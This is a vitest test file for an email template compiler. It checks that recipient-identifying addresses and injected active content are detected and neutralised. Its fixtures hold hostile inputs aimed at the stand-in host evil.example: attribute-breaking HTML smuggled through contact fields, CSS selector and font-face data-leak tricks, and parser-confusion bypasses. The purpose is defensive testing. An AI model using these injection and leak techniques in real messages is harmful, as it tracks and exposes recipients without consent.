import { expect, test } from 'vitest'
import { compileContent } from './compile-content.ts'
import { renderContent } from './render-content.ts'

const urls = {
  unsubscribeUrl: 'https://news.example/u/token',
  preferencesUrl: 'https://news.example/p/token',
  viewUrl: 'https://news.example/view/token',
}
const scopeOf = (name: string, attributes: object) => ({
  ...urls,
  contact: {
    id: `id-of-${name}`,
    email: `${name}@secret.example`,
    attributes: {
      ...attributes,
      name,
      markup: `"><img src=https://evil.example/${name}>`,
      spaced: ` src=https://evil.example/${name}`,
    },
  },
  account: { name: 'Atelier' },
  data: {},
})
const ada = scopeOf('ada', { vip: true, all: [1, 2] })
const grace = scopeOf('grace', { vip: false, all: [] })
const text = 'Bonjour {{ unsubscribeUrl }}'
const compile = (html: string) =>
  compileContent({ subject: 's', html: `${html}<a href="{{ unsubscribeUrl }}">U</a>`, text })
const addressesIn = (html: string | null) => html?.match(/evil[^\s"'<>)]*/g) ?? []
const vip = '{% if contact.attributes.vip %}'
const fixed = '<img src="https://evil.example/a">'
const url = 'https://evil.example/a'

test.each([
  // names as Liquid reads them
  `{%-assign u=contact.id-%}<img src="https://evil.example/{{-u-}}">`,
  `{% assign c = contact-%}<img src="https://evil.example/{{ c.email }}">`,
  `{% assign u? = contact.id %}<img src="https://evil.example/{{ u? }}">`,
  `{% capture é %}{{ contact.id }}{% endcapture %}{% assign u = é %}<img src="https://evil.example/{{ u }}">`,
  `{% capture "my name" %}{{ contact.id }}{% endcapture %}<img src="https://evil.example/{{ ["my name"] }}">`,
  // quotes as Liquid reads them
  `<img src="https://evil.example/{{ 'a\\'' | append: contact.email | append: '' }}">`,
  `<img src='https://evil.example/{{ "a\\"" | append: contact.email | append: "" }}'>`,
  `{% liquid\n # don't\n assign u = contact.email\n%}<img src="https://evil.example/{{ u }}">`,
  // what ends the value that it stands in
  '<p title="{{ contact.attributes.markup | raw }}">x</p>',
  `${vip}<p title="{{ '"><img src=https://evil.example/a>' | raw }}">x</p>{% endif %}`,
  '<img title={{ contact.attributes.spaced }} alt="">',
  `<img ${vip}class={{ 'a src=https://evil.example/a' }} {% endif %} alt="">`,
  // what decides how the rest is read
  `<!--[if ${vip}mso{% else %}!mso{% endif %}]>${fixed}<![endif]-->`,
  `<!--[if gte mso {{ contact.attributes.all | size }}]><!-->${fixed}<!--<![endif]-->`,
  `<![if ${vip}mso{% else %}!mso{% endif %}]>${fixed}<![endif]>`,
  `<!${vip}-- {% endif %}-->${fixed}`,
  `${vip}<template>{% endif %}${fixed}</template>`,
  `<select>${vip}</select>{% endif %}${fixed}</select>`,
  `${vip}<textarea>{% endif %}${fixed}</textarea>`,
  `${vip}<plaintext>{% endif %}${fixed}`,
  `${vip}<meta http-equiv="Content-Security-Policy" content="img-src 'none'">{% endif %}${fixed}`,
  `<picture>${vip}<source media="print" srcset="cid:x">{% endif %}${fixed}</picture>`,
  // what decides whether an element loads what it names
  `<img src="https://evil.example/a" ${vip}loading="lazy"{% endif %}>`,
  `<video ${vip}autoplay{% endif %} src="https://evil.example/a"></video>`,
  `<style>@font-face { font-family: f; src: url(${url}); unicode-range: U+41 }</style><p>{{ contact.id }}</p>`,
  `<style>@font-face { font-family: f; src: url(${url}); unicode-r\\61nge: U+41 }</style><p>{{ contact.id }}</p>`,
  `<style>[title="ada"] { background: url(${url}) }</style><p title="{{ contact.attributes.name }}">x</p>`,
  `<style>{{ "[title=ada]" }} { background: url(${url}) }</style><p title="{{ contact.attributes.name }}">x</p>`,
  `<style>{{ "[title=ada] { background: url(${url}) }" }}</style><p title="{{ contact.attributes.name }}">x</p>`,
  `<style>:lang(ada) { background: url(${url}) }</style><p lang="{{ contact.attributes.name }}">x</p>`,
  `<style>p:empty { background: url(${url}) }</style><p>{{ contact.attributes.vip }}</p>`,
  `<style>@import "${url}.css";</style><p title="{{ contact.attributes.name }}">x</p>`,
  `<link rel="stylesheet" href="${url}.css"><p title="{{ contact.attributes.name }}">x</p>`,
  `${vip}<p style="{{ 'background: url(${url})' }}">x</p>{% endif %}`,
])('an address tells nothing of who is not tracked, however it is hidden: %s', async (html) => {
  const compiled = await compile(html)
  expect(compiled.warnings.map(({ code }) => code)).toContain('identifying_address')
  const [one, two] = [ada, grace].map((of) => renderContent(compiled, of, { mode: 'off' }).html)
  expect(addressesIn(one ?? '')).toEqual(addressesIn(two ?? ''))
  expect(one).not.toMatch(/evil\S*(ada|secret)/)
  // what they load depends on what stands around them: they are not there
  if (!/src=["']https:\/\/evil.example\/\{|mso {{|href/.test(html))
    expect(one).not.toContain('evil.example/a')
  const tracked = renderContent(compiled, ada, { mode: 'individual' }).html
  expect(tracked).toMatch(/evil\.example/)
})

test.each([
  '<img {% echo contact.attributes.spaced %} alt="">',
  '<img {% cycle contact.attributes.spaced %} alt="">',
  `<img ${vip}{{ 'src=https://evil.example/a' }}{% endif %} alt="">`,
])('text that Liquid puts among attributes is told: %s', async (html) => {
  expect((await compile(html)).warnings.map(({ code }) => code)).toContain('active_content')
})

test.each([
  '{{ "evil\\x2eexample\\x2f" }}{{ contact.id }}',
  '{% assign u = "evil\\u002eexample\\u002f" %}{{ u-}}{{ contact.id }}',
  '{% assign u = "https://evil.example/"-%}{{ u-}}{{ contact.id }}',
])('a text that mail programs make a link of is found when its signs are escaped: %s', async (html) => {
  const compiled = await compile(html)
  expect(compiled.warnings).toMatchObject([{ code: 'identifying_address' }])
  expect(renderContent(compiled, ada, { mode: 'off' }).html).not.toContain('id-of-ada')
})

test('what is whole within a condition leaves what follows as it is', async () => {
  const inside =
    '<picture><source srcset="cid:a"><img src="cid:b"></picture><!--[if mso]><p>x</p><![endif]-->'
  const compiled = await compile(`{% if contact.id %}${inside}<svg></svg>{% endif %}${fixed}`)
  expect(compiled.warnings).toEqual([])
  expect(renderContent(compiled, ada, { mode: 'off' }).html).toContain(fixed)
})

test('sheets that read nothing personal keep what they load', async () => {
  const html = [
    `<!--[if mso]><style>td { background: url(${url}) }</style><![endif]-->`,
    `<style>td[class="wide"], a[x-apple-data-detectors] { background: url(${url}) }</style>`,
    `<style>@font-face { font-family: f; src: url(${url}) }</style><p title="{{ contact.id }}">{{ contact.id }}</p>`,
    `<p class="a" style="color: red" title='{{ contact.id }}'>x</p>${fixed}`,
  ].join('')
  const compiled = await compile(html)
  expect(compiled.warnings).toEqual([])
  expect(addressesIn(renderContent(compiled, ada, { mode: 'off' }).html)).toHaveLength(4)
})

test.each([
  'See {{ contact.attributes.link }} there',
  'See {% echo contact.attributes.link %} there',
  'See {% cycle contact.attributes.link %} there',
  '{% assign u = contact.attributes.link %}See {{ u }} there',
  'See {{ contact.attributes.link | raw }} there',
])('an address that a contact’s data holds is no link without permission: %s', async (content) => {
  const link = 'https://evil.example/ada'
  const of = scopeOf('ada', { link })
  const compiled = await compileContent({
    subject: 's',
    html: `<p>${content} {{ contact.email }} {{ unsubscribeUrl }}</p>`,
    text: `${content} {{ contact.email }} {{ unsubscribeUrl }}`,
  })
  const { html, text: plain } = renderContent(compiled, of, { mode: 'off' })
  for (const shown of [html ?? '', plain]) {
    expect(shown).not.toContain('evil.example')
    expect(shown.replaceAll('\u200c', '')).toContain(`See ${link} there`)
    expect(shown).toContain('ada@secret.example https://news.example/u/token')
  }
  const tracked = renderContent(compiled, of, { mode: 'individual' })
  expect(tracked.html).toContain(link)
  expect(tracked.text).toContain(link)
})
